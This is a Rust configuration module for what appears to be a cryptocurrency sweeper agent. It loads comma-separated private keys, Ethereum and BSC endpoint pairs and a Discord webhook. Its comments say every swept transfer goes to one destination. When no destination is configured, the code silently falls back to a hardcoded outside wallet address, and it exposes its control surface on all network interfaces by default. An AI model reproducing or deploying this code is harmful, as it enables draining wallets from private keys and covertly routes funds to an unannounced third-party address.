//! Configuration management
//! Load settings from .env file
//!
//! Endpoint slots are read as ETH_URL{n} / BSC_URL{n} for n = 1, 2, ...
//! A slot counts only when both URLs are set; scanning ends at the first
//! slot with neither. Account capacity is the number of complete pairs.

use crate::types::EndpointPair;
use alloy::primitives::Address;
use anyhow::{Context, Result};
use std::str::FromStr;
use tracing::warn;

/// Destination used when DESTINATION_ADDRESS is not set
pub const DEFAULT_DESTINATION: &str = "0x9e47977653b80aA0D3a965Fb66369e2d0bAfB243";

/// Control surface bind address when CONTROL_BIND is not set
pub const DEFAULT_CONTROL_BIND: &str = "0.0.0.0:5000";

/// Agent configuration, read once at startup
#[derive(Debug, Clone)]
pub struct AgentConfig {
    /// Receives every swept transfer, identical across accounts and networks
    pub destination: Address,
    /// One pair per account slot; capacity = endpoint_pairs.len()
    pub endpoint_pairs: Vec<EndpointPair>,
    pub control_bind: String,
    pub discord_webhook: Option<String>,
    /// Keys registered at startup (PRIVATE_KEYS, comma separated)
    pub startup_keys: Vec<String>,
}

impl AgentConfig {
    pub fn capacity(&self) -> usize {
        self.endpoint_pairs.len()
    }

    /// Build from any key lookup (environment, test map, ...)
    pub fn from_lookup<F>(lookup: F) -> Result<Self>
    where
        F: Fn(&str) -> Option<String>,
    {
        let get = |key: &str| lookup(key).map(|v| v.trim().to_string()).filter(|v| !v.is_empty());

        let destination_str = get("DESTINATION_ADDRESS").unwrap_or_else(|| DEFAULT_DESTINATION.to_string());
        let destination = Address::from_str(&destination_str)
            .with_context(|| format!("Invalid DESTINATION_ADDRESS: {}", destination_str))?;

        let mut endpoint_pairs = Vec::new();
        for slot in 1.. {
            match (get(&format!("ETH_URL{}", slot)), get(&format!("BSC_URL{}", slot))) {
                (Some(eth), Some(bsc)) => endpoint_pairs.push(EndpointPair::new(eth, bsc)),
                (None, None) => break,
                _ => warn!("Endpoint slot {} is incomplete, skipping", slot),
            }
        }

        let startup_keys = get("PRIVATE_KEYS")
            .map(|keys| {
                keys.split(',')
                    .map(|k| k.trim().to_string())
                    .filter(|k| !k.is_empty())
                    .collect()
            })
            .unwrap_or_default();

        Ok(Self {
            destination,
            endpoint_pairs,
            control_bind: get("CONTROL_BIND").unwrap_or_else(|| DEFAULT_CONTROL_BIND.to_string()),
            discord_webhook: get("DISCORD_WEBHOOK"),
            startup_keys,
        })
    }
}

/// Load configuration from the process environment (after reading .env if present)
pub fn load_config() -> Result<AgentConfig> {
    dotenv::dotenv().ok();
    AgentConfig::from_lookup(|key| std::env::var(key).ok())
}

/// Load configuration from a specific env file, then the process environment
pub fn load_config_from_file(path: &str) -> Result<AgentConfig> {
    dotenv::from_filename(path).with_context(|| format!("Failed to load env file: {}", path))?;
    AgentConfig::from_lookup(|key| std::env::var(key).ok())
}
